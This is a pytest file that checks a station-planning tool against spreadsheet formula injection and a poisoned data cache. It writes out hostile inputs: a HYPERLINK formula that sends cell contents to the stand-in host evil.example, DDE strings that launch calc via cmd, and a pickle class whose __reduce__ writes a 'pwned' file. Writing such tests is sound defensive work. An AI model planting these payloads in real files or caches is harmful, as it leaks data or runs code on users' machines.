"""Issue 18, injection and code execution: input text never becomes a formula in the workbook or a
CSV, and the reach cache holds data only, tied to the inputs' hash."""

from __future__ import annotations

import os
import pickle
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import corridor_layout, write_station

from planner.cells import safe_csv_frame, safe_text

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "#N/A"]


def test_safe_text_follows_owasp():
    for p in PAYLOADS[:-1]:
        assert safe_text(p).startswith("'") and safe_text(p)[1:] == p.replace("\r", "\r")
    assert safe_text("Galley 2") == "Galley 2" and safe_text("a\x01b") == "a\ufffdb"
    df = safe_csv_frame(pd.DataFrame({"=bad": ["=1+1", "ok"], "n": [1, 2]}))
    assert list(df.columns) == ["'=bad", "n"] and df["'=bad"].tolist() == ["'=1+1", "ok"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    rooms, doors, res = corridor_layout(["storage", "quarters", "storage", "quarters"], residents={"R2": 3, "R4": 2})
    plain = [t for t in PAYLOADS if "\t" not in t and "\r" not in t]  # control characters are refused
    for i, r in enumerate(rooms):
        r["name"] = plain[i % len(plain)]
        r["sector"] = plain[(i + 1) % len(plain)]
    rooms[1]["room_id"] = "=R2()"
    res[1]["room_id"] = "=R2()"
    res = [{"room_id": r["room_id"], "=night()": r["night"], "@day": r["day"]} for r in res]
    toml = ('[station]\nstation_title = "=HYPERLINK(\\"http://evil.example\\",\\"Station\\")"\n'
            '[costs]\ncurrency = "=CR"\n'
            '[[phases]]\nname = "=cmd|\' /C calc\'!A0"\nmax_rooms = 1\n[[phases]]\nname = "+Phase 2"\n')
    return write_station(tmp_path_factory.mktemp("inj") / "hostile", rooms, doors, res, toml)


def _formulas(path: Path) -> list[str]:
    """The text of every <f> element of every sheet of a workbook."""
    out = []
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                out += re.findall(r"<f>(.*?)</f>", z.read(n).decode("utf-8"), flags=re.DOTALL)
    return out


def test_no_input_text_becomes_a_formula_in_the_proposal(hostile, tmp_path):
    from planner.cli import main

    assert main(["--quiet", "propose", str(hostile), "--out", str(tmp_path), "--whatif-budgets", "2"]) == 0
    (book,) = tmp_path.glob("*/*.xlsx")
    formulas = _formulas(book)
    assert formulas  # the workbook's own live formulas are still there
    for f in formulas:
        assert not re.search(r"HYPERLINK|cmd|evil|R2\(\)|night\(\)", f), f
    wb = openpyxl.load_workbook(book)
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    if c.data_type == "f":
                        assert not re.search(r"HYPERLINK|cmd|evil|R2\(\)", c.value), (ws.title, c.coordinate)
                    else:
                        texts.add(c.value)
                        assert c.data_type in ("s", "inlineStr", "str"), (ws.title, c.coordinate, c.data_type)
    # the hostile texts are there, as text, in the Safe rooms / Coverage / Phases / Assumptions sheets
    assert "'=R2()" in texts and any(t.startswith("'") and t[1:] in PAYLOADS for t in texts)
    assert any(t.startswith("'=HYPERLINK") and "Station" in t for t in texts)
    assert "'=cmd|' /C calc'!A0" in texts and "'+Phase 2" in texts and "'=CR" in texts


def test_reach_csv_writes_texts_as_text(hostile, tmp_path):
    from planner.cli import main

    out = tmp_path / "r.csv"
    assert main(["--quiet", "reach", str(hostile), "--out", str(out)]) == 0
    assert "'=R2()" in out.read_text() and ",=R2()" not in out.read_text()


# ------------------------------------------------------------------ the reach cache
class _Payload:
    def __reduce__(self):
        return (Path.write_text, (Path(os.environ["PWN_MARKER"]), "pwned"))


@pytest.fixture
def cached(tmp_path, monkeypatch):
    from planner.network import reach_table
    from planner.station import load_station

    monkeypatch.setenv("PLANNER_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("PWN_MARKER", str(tmp_path / "pwned"))
    rooms, doors, res = corridor_layout(["storage", "quarters", "storage"], residents={"R2": 3})
    station = load_station(write_station(tmp_path / "st", rooms, doors, res))
    fresh = reach_table(station, cache=False)
    return station, fresh, tmp_path / "cache" / "reach" / f"{fresh.key}.npz"


def test_a_crafted_pickle_in_the_cache_runs_nothing(cached, tmp_path):
    from planner.network import reach_table

    station, fresh, path = cached
    path.parent.mkdir(parents=True)
    with open(path, "wb") as fh:  # an npz whose arrays are pickled objects
        np.savez(fh, format=np.array([_Payload()], dtype=object), key=np.array([_Payload()], dtype=object))
    (path.parent / f"{fresh.key}.pkl.gz").write_bytes(pickle.dumps(_Payload()))  # the old format's name
    got = reach_table(station, cache_dir=path.parent)
    assert not (tmp_path / "pwned").exists()
    pd.testing.assert_frame_equal(got.pairs, fresh.pairs)
    with np.load(path, allow_pickle=False) as z:  # replaced by a data-only entry
        assert z["pairs_walk_s"].dtype == np.float64


def test_stale_or_poisoned_cache_entries_are_recomputed(cached):
    from planner.network import reach_table

    station, fresh, path = cached
    reach_table(station, cache_dir=path.parent)  # writes the entry
    good = dict(np.load(path, allow_pickle=False))

    def poisoned(**change) -> None:
        d = dict(good)
        d.update(change)
        with open(path, "wb") as fh:
            np.savez(fh, **d)

    cases = [
        {"key": np.asarray("0" * 64)},                                      # another station's entry
        {"pairs_walk_s": good["pairs_walk_s"] + station.params.reach_s},    # walks beyond the reach
        {"pairs_walk_s": -good["pairs_walk_s"] - 1},                        # negative walks
        {"pairs_site_id": np.full(good["pairs_site_id"].shape, "C")},      # a corridor as a site
        {"rooms_room_id": good["rooms_room_id"][:-1]},                      # rooms missing
        {"pairs_walk_s": good["pairs_walk_s"].astype(np.float32)},          # wrong types
    ]
    for change in cases:
        poisoned(**change)
        got = reach_table(station, cache_dir=path.parent)
        pd.testing.assert_frame_equal(got.pairs, fresh.pairs)
    path.write_bytes(b"not a zip file")
    pd.testing.assert_frame_equal(reach_table(station, cache_dir=path.parent).pairs, fresh.pairs)
